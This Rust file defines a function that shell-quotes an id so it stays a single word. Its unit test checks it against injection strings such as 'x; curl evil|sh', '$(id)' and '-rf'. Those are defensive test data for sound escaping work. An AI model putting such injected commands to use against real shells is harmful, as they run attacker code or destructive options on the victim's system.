//! What stands in commands that people are told to run: an id is whatever somebody made it.

/// As one word of a shell, whatever it holds.
pub fn word(text: &str) -> String {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "-_./:@%+,".contains(letter);
    if !text.is_empty() && !text.starts_with('-') && text.chars().all(is_plain) {
        text.to_owned()
    } else {
        format!("'{}'", text.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_stays_one_word_and_runs_nothing() {
        assert_eq!(word("airline-00-0"), "airline-00-0");
        for (id, written) in [
            ("x; curl evil|sh", "'x; curl evil|sh'"),
            ("it's", "'it'\\''s'"),
            ("$(id)", "'$(id)'"),
            ("-rf", "'-rf'"),
            ("", "''"),
        ] {
            assert_eq!(word(id), written);
        }
    }
}
